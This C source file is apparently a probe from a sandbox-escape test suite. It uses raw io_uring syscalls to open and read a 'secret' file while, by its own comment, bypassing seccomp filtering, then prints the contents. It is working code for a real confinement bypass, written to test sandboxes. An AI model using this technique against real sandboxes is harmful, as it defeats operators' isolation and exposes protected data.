/* io_uring: openat and read of the secret through a submission ring, which
 * the kernel runs without any seccomp check. */
#include <linux/io_uring.h>
#include <sys/mman.h>

#include "esc.h"

static int ring_fd;
static unsigned *sq_tail, *sq_mask, *sq_array, *cq_head, *cq_tail, *cq_mask;
static struct io_uring_sqe *sqes;
static struct io_uring_cqe *cqes;

static int setup(void)
{
	struct io_uring_params p = { 0 };
	ring_fd = CHECK("io_uring_setup", syscall(SYS_io_uring_setup, 4, &p));
	if (ring_fd < 0)
		return -1;
	size_t sq_len = p.sq_off.array + p.sq_entries * sizeof(unsigned);
	size_t cq_len = p.cq_off.cqes + p.cq_entries * sizeof(struct io_uring_cqe);
	char *sq = mmap(NULL, sq_len, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_POPULATE, ring_fd, IORING_OFF_SQ_RING);
	char *cq = mmap(NULL, cq_len, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_POPULATE, ring_fd, IORING_OFF_CQ_RING);
	sqes = mmap(NULL, p.sq_entries * sizeof(*sqes), PROT_READ | PROT_WRITE, MAP_SHARED | MAP_POPULATE, ring_fd, IORING_OFF_SQES);
	if (sq == MAP_FAILED || cq == MAP_FAILED || sqes == MAP_FAILED) {
		say("mmap of the rings failed: %s\n", res(-1, errno));
		return -1;
	}
	sq_tail = (unsigned *)(sq + p.sq_off.tail);
	sq_mask = (unsigned *)(sq + p.sq_off.ring_mask);
	sq_array = (unsigned *)(sq + p.sq_off.array);
	cq_head = (unsigned *)(cq + p.cq_off.head);
	cq_tail = (unsigned *)(cq + p.cq_off.tail);
	cq_mask = (unsigned *)(cq + p.cq_off.ring_mask);
	cqes = (struct io_uring_cqe *)(cq + p.cq_off.cqes);
	return 0;
}

/* Submits one sqe and waits for its completion; gives cqe.res. */
static int run(struct io_uring_sqe *proto)
{
	unsigned tail = *sq_tail, idx = tail & *sq_mask;
	sqes[idx] = *proto;
	sq_array[idx] = idx;
	__atomic_store_n(sq_tail, tail + 1, __ATOMIC_RELEASE);
	long r = syscall(SYS_io_uring_enter, ring_fd, 1, 1, IORING_ENTER_GETEVENTS, NULL, 0);
	if (r < 0) {
		say("io_uring_enter: %s\n", res(-1, errno));
		return -1000;
	}
	unsigned head = *cq_head;
	if (head == __atomic_load_n(cq_tail, __ATOMIC_ACQUIRE))
		return -1001;
	int v = cqes[head & *cq_mask].res;
	__atomic_store_n(cq_head, head + 1, __ATOMIC_RELEASE);
	return v;
}

int main(int argc, char **argv)
{
	esc_init(argc, argv);
	static char buf[4096];
	if (setup() < 0)
		return 0;
	struct io_uring_sqe s = { 0 };
	s.opcode = IORING_OP_OPENAT;
	s.fd = AT_FDCWD;
	s.addr = (unsigned long)arg("secret");
	s.open_flags = O_RDONLY;
	int fd = run(&s);
	say("IORING_OP_OPENAT %s: %d\n", arg("secret"), fd);
	if (fd < 0)
		return 0;
	memset(&s, 0, sizeof(s));
	s.opcode = IORING_OP_READ;
	s.fd = fd;
	s.addr = (unsigned long)buf;
	s.len = sizeof(buf) - 1;
	int n = run(&s);
	say("IORING_OP_READ: %d\n", n);
	if (n > 0)
		out_raw(buf, (size_t)n);
	return 0;
}
